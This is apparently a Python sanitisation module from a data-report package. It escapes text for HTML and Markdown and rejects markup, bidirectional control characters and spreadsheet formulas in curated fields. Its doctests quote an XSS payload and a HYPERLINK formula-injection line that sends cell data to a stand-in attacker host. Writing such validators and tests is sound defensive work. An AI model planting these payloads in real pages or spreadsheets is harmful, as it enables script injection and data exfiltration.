"""Text from data, made inert for the HTML and Markdown of the published pages.

The curated tables, report.toml and the run configuration are typed by people; a label such as
``<img src=x onerror=alert(1)>`` or ``**bold** [link](…)`` must reach a reader as the characters
typed, never as markup. :func:`escape` is the one function that makes such text safe. Every
data-derived string that the package writes into HTML (tables, the sources appendix, chart alt
text, the report header) or into Markdown (the generated prose) goes through it; the run index is
rendered by Jinja with autoescaping, which is the same guarantee for a template.

The rule is deliberately blunt, so that it holds in every context the text can land in: every ASCII
punctuation character (exactly the characters CommonMark lets a backslash escape, which include
HTML's ``& < > " '``) becomes a numeric character reference, and every control character (line
breaks included, which could start a new Markdown block) becomes a space. Browsers and Markdown
renderers show the reference as the character itself, and a character reference is never read as
Markdown syntax, so the text looks exactly as typed. Letters, digits, spaces and all non-ASCII
characters (Chinese text and punctuation) are left alone.

Escaping protects the pages; :func:`markup_problem` protects the data: the validation of the curated
files and of report.toml refuses free text that looks like markup, so that no reader of the CSV or
other tool takes it for markup either. This module imports nothing of the package: it sits at the
bottom.
"""

from __future__ import annotations

import re

_ASCII_PUNCTUATION = re.compile(r"[!-/:-@\[-`{-~]")
_CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]")


__all__ = [
    "BIDI_CONTROLS",
    "MARKUP_LIKE",
    "PLAIN_TEXT_ALLOWED",
    "bidi_problem",
    "escape",
    "markup_problem",
]


def escape(value: object) -> str:
    """``value`` as text that HTML (element content or a quoted attribute) and Markdown show verbatim.

    >>> escape("<img src=x onerror=alert(1)>")
    '&#60;img src&#61;x onerror&#61;alert&#40;1&#41;&#62;'
    >>> escape("工业增加值")
    '工业增加值'

    Parameters
    ----------
    value : object
        Any value; it is shown as its text.

    Returns
    -------
    str

    Examples
    --------
    >>> escape('R&D <b>"x"</b>')
    'R&#38;D &#60;b&#62;&#34;x&#34;&#60;&#47;b&#62;'
    """
    text = _CONTROL.sub(" ", str(value))
    return _ASCII_PUNCTUATION.sub(lambda match: f"&#{ord(match[0])};", text)


MARKUP_LIKE = (
    r"[<>`\[\]{}\\*|~$]"  # tags, code spans, links, emphasis, tables, strikethrough, math
    r"|&(?:#[0-9]+|#[xX][0-9a-fA-F]+|[A-Za-z][A-Za-z0-9]*);"  # character references such as &lt; or &#60;
    r"|://"  # addresses
    r"|[\x00-\x1f\x7f]"  # control characters: tabs and line breaks included
)
r"""What free text may not contain: HTML tags (``<``, ``>``), character references (``&lt;``,
``&#60;``), the characters Markdown reads as syntax (`` ` [ ] { } \ * | ~``), ``$`` (which chart
labels read as math), addresses (``://``) and control characters. The underscore is allowed: notes
name figure ids such as ``gdp_2021h1_actual`` (the pages escape it like every other character)."""

PLAIN_TEXT_ALLOWED = (
    "words in any script, digits, spaces, CJK punctuation and , . ; : ' \" ( ) - / % & + ? ! # = @ _ "
    "(a lone & as in R&D is fine)"
)
"""What free text may hold, as the error messages say it."""


BIDI_CONTROLS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
"""The bidirectional control characters (embeddings, overrides, isolates, marks): invisible, they
reorder the characters around them, so ``2.81`` can show as ``18.2``. No curated text holds one."""
_BIDI = re.compile(f"[{BIDI_CONTROLS}]")
_FORMULA_START = ("=", "+", "-", "@")


def bidi_problem(text: str) -> str | None:
    """Why ``text`` may not stand in a curated file (it holds a bidirectional control character), or None.

    Parameters
    ----------
    text : str
        Any text of a curated file or report.toml.

    Returns
    -------
    str or None

    Examples
    --------
    >>> bidi_problem("GDP") is None
    True
    >>> print(bidi_problem("GDP \u202e181"))
    holds the invisible bidirectional control character U+202E at character 5, which reorders what a reader sees; remove it
    """
    found = _BIDI.search(str(text))
    if found is None:
        return None
    return (
        f"holds the invisible bidirectional control character U+{ord(found[0]):04X} at character {found.start() + 1}, "
        "which reorders what a reader sees; remove it"
    )


def markup_problem(text: str) -> str | None:
    """Why ``text`` may not stand in a free-text field (it looks like markup), or None.

    Parameters
    ----------
    text : str
        A free-text field of figures.csv or report.toml.

    Returns
    -------
    str or None

    Examples
    --------
    >>> markup_problem("地区生产总值") is None
    True
    >>> print(markup_problem("GDP <b>"))
    markup-like text ('<', '>') is not allowed in free text; allowed: ...
    >>> print(markup_problem('=HYPERLINK("http"&":"&"//evil.example/?q="&A1,"GDP")'))
    starts with '=', which a spreadsheet reads as the start of a formula; start free text with a word or a digit
    """
    if message := bidi_problem(text):
        return message
    if str(text).startswith(_FORMULA_START):
        return (
            f"starts with {str(text)[0]!r}, which a spreadsheet reads as the start of a formula; "
            "start free text with a word or a digit"
        )
    found = list(dict.fromkeys(re.findall(MARKUP_LIKE, str(text))))
    if not found:
        return None
    return (
        f"markup-like text ({', '.join(map(repr, found))}) is not allowed in free text; allowed: {PLAIN_TEXT_ALLOWED}"
    )
